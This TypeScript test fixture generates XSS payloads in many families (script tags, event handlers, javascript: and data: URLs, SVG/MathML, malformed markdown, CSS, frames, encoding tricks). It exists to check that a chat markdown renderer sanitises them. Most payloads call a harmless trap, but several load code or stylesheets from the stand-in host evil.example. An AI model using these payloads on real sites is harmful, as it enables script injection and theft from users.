/**
 * XSS vectors for the browser test, written for this suite (independent of test/chat/markdown.test.ts).
 * Every vector that ran would call or set the trap `__xss` with its own number (some call `alert`,
 * caught as a dialog, or reach a foreign host, caught by the request listener), so a failure names
 * the vector that fired.
 */

export interface XssVector {
  id: number;
  family: string;
  /** Where it goes: the markdown `message` or the plain-text `metadata`. */
  field: 'message' | 'metadata';
  payload: string;
}

const b64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');
/** Every character as a decimal character reference, the way filter-evasion lists write it. */
const decimalRefs = (text: string) => [...text].map((c) => `&#${c.codePointAt(0)};`).join('');
const hexRefs = (text: string) => [...text].map((c) => `&#x${c.codePointAt(0)!.toString(16)}`).join('');

type Template = (id: number) => string;

const FAMILIES: Record<string, Template[]> = {
  'script tags': [
    (n) => `<script>__xss(${n})</script>`,
    (n) => `<SCRIPT>__xss(${n})</SCRIPT>`,
    (n) => `<script src="data:text/javascript,__xss(${n})"></script>`,
    (n) => `<SCRIPT SRC=//evil.example/${n}.js></SCRIPT>`,
    (n) => `<scr<script>ipt>__xss(${n})</scr</script>ipt>`,
    (n) => `<script/xss>__xss(${n})</script>`,
    (n) => `<<script>__xss(${n});//<</script>`,
    (n) => `<script>__xss(${n})`,
    (n) => `</script><script>__xss(${n})</script>`,
    (n) => `<script type="module">window.__xss = ${n}</script>`,
    (n) => `<noscript><p title="</noscript><img src=x onerror=__xss(${n})>"></noscript>`,
    (n) => `text\n\n<script>\n__xss(${n})\n</script>\n\nmore text`,
    (n) => `<xmp><script>__xss(${n})</script></xmp>`,
    (n) => `<plaintext><script>__xss(${n})</script>`,
  ],
  'event handlers': [
    (n) => `<img src=x onerror=__xss(${n})>`,
    (n) => `<img src="x" onerror="__xss(${n})">`,
    (n) => `<IMG SRC=x ONERROR=__xss(${n})>`,
    (n) => `<img src=x oNeRrOr=__xss(${n})>`,
    (n) => `<img/src/onerror=__xss(${n})>`,
    (n) => `<img src="x"/onerror=__xss(${n})>`,
    (n) => `<img src=x onerror=&#95;&#95;xss(${n})>`,
    (n) => `<img src=x:x onerror="window['__x'+'ss']=${n}">`,
    (n) => `<body onload=__xss(${n})>`,
    (n) => `<div onmouseover="__xss(${n})" style="position:fixed;inset:0">hover</div>`,
    (n) => `<input autofocus onfocus=__xss(${n})>`,
    (n) => `<select autofocus onfocus=__xss(${n})></select>`,
    (n) => `<textarea autofocus onfocus=__xss(${n})></textarea>`,
    (n) => `<details open ontoggle=__xss(${n})>x</details>`,
    (n) => `<video><source onerror=__xss(${n})></video>`,
    (n) => `<audio src=x onerror=__xss(${n})></audio>`,
    (n) => `<marquee onstart=__xss(${n})>x</marquee>`,
    (n) => `<style onload=__xss(${n})></style>`,
    (n) => `<div style="animation-name:spin" onanimationstart=__xss(${n})>x</div>`,
    (n) => `<a onmouseover=__xss(${n})>hover me</a>`,
    (n) => `<p onclick=alert(${n})>click</p>`,
    (n) => `<svg><animate onbegin=__xss(${n}) attributeName=x dur=1s>`,
    (n) => `<img src=x onerror\n=\n__xss(${n})>`,
    (n) => `<img src=x onerror=__xss(${n})//`,
    (n) => `<image src=x onerror=__xss(${n})>`,
    (n) => `<body/onpageshow=__xss(${n})>`,
  ],
  'javascript: URLs': [
    (n) => `[click](javascript:__xss(${n}))`,
    (n) => `[click](JaVaScRiPt:__xss(${n}))`,
    (n) => `[click](javascript&#58;__xss(${n}))`,
    (n) => `[click](javascript&colon;__xss(${n}))`,
    (n) => `[click](&#106;avascript:__xss(${n}))`,
    (n) => `[click](&#x6A;avascript:__xss(${n}))`,
    (n) => `[click](${decimalRefs('javascript:')}__xss(${n}))`,
    (n) => `[click](${hexRefs('javascript:')}__xss(${n}))`,
    (n) => `[click](java&#x09;script:__xss(${n}))`,
    (n) => `[click](java&#10;script:__xss(${n}))`,
    (n) => `[click]( javascript:__xss(${n}))`,
    (n) => `[click](%6Aavascript:__xss(${n}))`,
    (n) => `[click](javascript%3A__xss(${n}))`,
    (n) => `<javascript:__xss(${n})>`,
    (n) => `[click](<javascript:__xss(${n})>)`,
    (n) => `[click][ref]\n\n[ref]: javascript:__xss(${n})`,
    (n) => `<a href="javascript:__xss(${n})">x</a>`,
    (n) => `<a href="  jAvAsCrIpT:__xss(${n})">x</a>`,
    (n) => `[click](javascript://%0a__xss(${n}))`,
    (n) => `[click](javascript:/*-->__xss(${n})*/)`,
    (n) => `[click](\u0001javascript:__xss(${n}))`,
    (n) => `[click](javascript:window.__xss=${n} "title")`,
    (n) => `[click](javascript:__xss&#40;${n}&#41;)`,
  ],
  'data: URLs': [
    (n) => `[click](data:text/html,<script>parent.__xss(${n})</script>)`,
    (n) => `[click](data:text/html;base64,${b64(`<script>parent.__xss(${n})</script>`)})`,
    (n) => `[click](DATA:text/html,%3Cscript%3Eparent.__xss(${n})%3C/script%3E)`,
    (n) => `[click](&#100;ata:text/html,<script>parent.__xss(${n})</script>)`,
    (n) => `![img](data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="parent.__xss(${n})"/>`)})`,
    (n) =>
      `![img](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg== "${n}")`,
    (n) => `<a href="data:text/html,<script>parent.__xss(${n})</script>">x</a>`,
    (n) => `<img src="data:image/svg+xml,<svg onload=parent.__xss(${n})>">`,
    (n) => `<object data="data:text/html;base64,${b64(`<script>parent.__xss(${n})</script>`)}"></object>`,
    (n) => `<iframe src="data:text/html,<script>parent.__xss(${n})</script>"></iframe>`,
  ],
  'vbscript: URLs': [
    (n) => `[click](vbscript:msgbox(${n}))`,
    (n) => `[click](VBScript:MsgBox(${n}))`,
    (n) => `[click](vb&#115;cript:msgbox(${n}))`,
    (n) => `<a href="vbscript:msgbox(${n})">x</a>`,
    (n) => `![img](vbscript:msgbox(${n}))`,
  ],
  'SVG and MathML': [
    (n) => `<svg onload=__xss(${n})>`,
    (n) => `<svg/onload=__xss(${n})>`,
    (n) => `<svg><script>__xss(${n})</script></svg>`,
    (n) => `<svg><a xlink:href="javascript:__xss(${n})"><text x=20 y=20>x</text></a></svg>`,
    (n) => `<svg><a href="javascript:__xss(${n})"><rect width=100 height=100 /></a></svg>`,
    (n) => `<svg><foreignObject><img src=x onerror=__xss(${n})></foreignObject></svg>`,
    (n) => `<svg><set attributeName=onmouseover to=__xss(${n})></svg>`,
    (n) => `<svg><style><img src=x onerror=__xss(${n})></style></svg>`,
    (n) =>
      `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="__xss(${n})"/></svg>`)}#x"/></svg>`,
    (n) => `<math><mtext><table><mglyph><style><img src=x onerror=__xss(${n})></style></mglyph></table></mtext></math>`,
    (n) => `<math href="javascript:__xss(${n})">click</math>`,
    (n) => `<math><maction actiontype="statusline" xlink:href="javascript:__xss(${n})">x</maction></math>`,
    (n) => `<math><mi xlink:href="data:x,<script>__xss(${n})</script>">x</mi></math>`,
    (n) => `<svg><title><![CDATA[</title><img src=x onerror=__xss(${n})>]]></title></svg>`,
  ],
  'malformed markdown links and images': [
    (n) => `![x](x" onerror="__xss(${n}))`,
    (n) => `![x](x "onerror=__xss(${n})")`,
    (n) => `![x](" onerror="__xss(${n}))`,
    (n) => `![x](javascript:__xss(${n}))`,
    (n) => `[x](https://127.0.0.1/" onmouseover="__xss(${n}))`,
    (n) => `[x](<https://127.0.0.1/" onclick="__xss(${n})>)`,
    (n) => `[x](javascript:__xss(${n})`,
    (n) => `[x](javascript:__xss(${n}) "t")`,
    (n) => `[![img](javascript:__xss(${n}))](javascript:__xss(${n}))`,
    (n) => `[<img src=x onerror=__xss(${n})>](https://127.0.0.1/)`,
    (n) => `<https://127.0.0.1/"onmouseover="__xss(${n})>`,
    (n) => `[x](javascript:window['__xss'](${n}))`,
    (n) => `![x](x)onerror=__xss(${n})`,
    (n) => `[x]: javascript:__xss(${n})\n\n![x]`,
    (n) => `[a](https://127.0.0.1/ "a" onclick=__xss(${n}))`,
    (n) => `![a](x.png"onerror="__xss(${n}))`,
    (n) => `[a](javascript\\:__xss(${n}))`,
    (n) => `**[a](javascript:__xss(${n}))** _![b](javascript:__xss(${n}))_`,
  ],
  'HTML comments and declarations': [
    (n) => `<!-- --><script>__xss(${n})</script> -->`,
    (n) => `<!--><img src=x onerror=__xss(${n})>-->`,
    (n) => `<!---><img src=x onerror=__xss(${n})>`,
    (n) => `<!--[if IE]><script>__xss(${n})</script><![endif]-->`,
    (n) => `<!-- <img src="--><img src=x onerror=__xss(${n})>" -->`,
    (n) => `<! foo="><img src=x onerror=__xss(${n})>">`,
    (n) => `<?xml ><img src=x onerror=__xss(${n})>?>`,
    (n) => `<![CDATA[><img src=x onerror=__xss(${n})>]]>`,
    (n) => `<!DOCTYPE html><img src=x onerror=__xss(${n})>`,
  ],
  '<base>': [
    (n) => `<base href="javascript:__xss(${n})//">`,
    (n) => `<base href="https://evil.example/${n}/">`,
    (n) => `<BASE HREF="//evil.example/${n}/">[relative](x)`,
  ],
  '<meta refresh>': [
    (n) => `<meta http-equiv="refresh" content="0;url=javascript:__xss(${n})">`,
    (n) => `<meta http-equiv=refresh content="0; url=https://evil.example/${n}">`,
    (n) => `<META HTTP-EQUIV="refresh" CONTENT="0;URL=data:text/html;base64,${b64(`<script>__xss(${n})</script>`)}">`,
    (n) => `<meta charset="utf-7"><meta http-equiv="Set-Cookie" content="x=${n}">`,
  ],
  CSS: [
    (n) => `<style>@import 'https://evil.example/${n}.css';</style>`,
    (n) => `<style>body{background:url("https://evil.example/${n}")}</style>`,
    (n) => `<div style="background:url(javascript:__xss(${n}))">x</div>`,
    (n) => `<div style="width:expression(__xss(${n}))">x</div>`,
    (n) => `<p style="background-image:url(https://evil.example/${n}.png)">x</p>`,
    (n) => `<link rel=stylesheet href=https://evil.example/${n}.css>`,
    (n) => `<style>*{x:expression(__xss(${n}))}</style>`,
    (n) => `<div style="behavior:url(#default#time2)" onbegin=__xss(${n})>x</div>`,
    (n) => `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationend=__xss(${n})>x</b>`,
  ],
  'frames, objects and forms': [
    (n) => `<iframe src="javascript:parent.__xss(${n})"></iframe>`,
    (n) => `<iframe srcdoc="<script>parent.__xss(${n})</script>"></iframe>`,
    (n) => `<iframe srcdoc="&lt;img src=x onerror=parent.__xss(${n})&gt;"></iframe>`,
    (n) => `<object data="javascript:__xss(${n})"></object>`,
    (n) => `<embed src="javascript:__xss(${n})">`,
    (n) => `<form action="javascript:__xss(${n})"><button>go</button></form>`,
    (n) => `<form><button formaction=javascript:__xss(${n})>go</button></form>`,
    (n) => `<isindex action=javascript:__xss(${n}) type=image>`,
    (n) => `<template><img src=x onerror=__xss(${n})></template>`,
    (n) => `<frameset onload=__xss(${n})>`,
  ],
  'encodings and look-alikes': [
    (n) => `&lt;script&gt;__xss(${n})&lt;/script&gt;`,
    (n) => `+ADw-script+AD4-__xss(${n})+ADw-/script+AD4-`,
    (n) => `%3Cscript%3E__xss(${n})%3C/script%3E`,
    (n) => `\uff1cscript\uff1e__xss(${n})\uff1c/script\uff1e`,
    (n) => `<scr\u0000ipt>__xss(${n})</scr\u0000ipt>`,
    (n) => `\`<script>__xss(${n})</script>\``,
    (n) => `\`\`\`html\n</code></pre><script>__xss(${n})</script>\n\`\`\``,
    (n) => `| a | b |\n|---|---|\n| <img src=x onerror=__xss(${n})> | [x](javascript:__xss(${n})) |`,
    (n) => `> <script>__xss(${n})</script>\n> [q](javascript:__xss(${n}))`,
    (n) => `- <img src=x onerror=__xss(${n})>\n- [x](vbscript:__xss(${n}))`,
  ],
  'metadata (plain text)': [
    (n) => `<img src=x onerror=__xss(${n})>`,
    (n) => `<script>__xss(${n})</script>`,
    (n) => `"><svg onload=__xss(${n})>`,
    (n) => `javascript:__xss(${n})`,
  ],
};

export function xssVectors(): XssVector[] {
  const vectors: XssVector[] = [];
  for (const [family, templates] of Object.entries(FAMILIES)) {
    for (const template of templates) {
      const id = vectors.length + 1;
      vectors.push({ id, family, field: family.startsWith('metadata') ? 'metadata' : 'message', payload: template(id) });
    }
  }
  return vectors;
}
